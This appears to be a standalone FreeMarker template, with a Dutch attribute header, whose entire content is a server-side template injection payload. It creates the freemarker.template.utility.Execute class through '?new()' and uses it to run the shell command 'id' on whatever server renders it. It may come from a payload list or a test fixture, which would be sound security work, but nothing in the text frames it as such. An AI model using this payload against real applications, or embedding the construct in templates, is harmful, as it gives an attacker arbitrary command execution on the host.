<#ftl attributes={"rapport": "verslag", "model": 1}>
<#assign run = "freemarker.template.utility.Execute"?new()>
${run("id")}
